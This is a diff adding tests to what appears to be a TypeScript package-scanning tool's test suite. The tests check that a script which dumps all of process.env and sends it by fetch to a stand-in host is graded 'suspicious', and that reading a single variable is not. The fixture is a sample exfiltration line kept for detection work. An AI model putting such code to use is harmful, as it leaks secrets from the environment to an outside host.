@@ -67,3 +67,27 @@ describe('what loading does', () => {
 it('machine code of Unix is told by its first byte', () => {
   expect(fileTypeOf('build/own.node', Uint8Array.from([0x7f, 0x45, 0x4c, 0x46, 1, 1, 1, 1]))).toBe('executable');
 });
+
+describe('the environment and a host in a script of TypeScript', () => {
+  const graded = async (taken: string) =>
+    (
+      await gradesOf(
+        { 'index.ts': 'export {}' },
+        {
+          'index.ts': `interface One { readonly at: number }\nconst got = ${taken}; export const sent = fetch('https://in.invalid' as string, { body: String(got) });`,
+        },
+        { main: 'index.ts', type: 'module' },
+      )
+    ).import.grade;
+
+  it.each(['{ ...process.env }', 'JSON.stringify(process.env)', 'Object.entries(process.env)'])('%s: is worth a warning', async (taken) => {
+    expect(await graded(taken)).toBe('suspicious');
+  });
+
+  it.each(['process.env.LEVEL', "process.env['LEVEL']", '{ ...defaults, level: process.env.LEVEL }', 'JSON.stringify(process.env.LEVEL)'])(
+    '%s: is not',
+    async (taken) => {
+      expect(await graded(taken)).not.toBe('suspicious');
+    },
+  );
+});
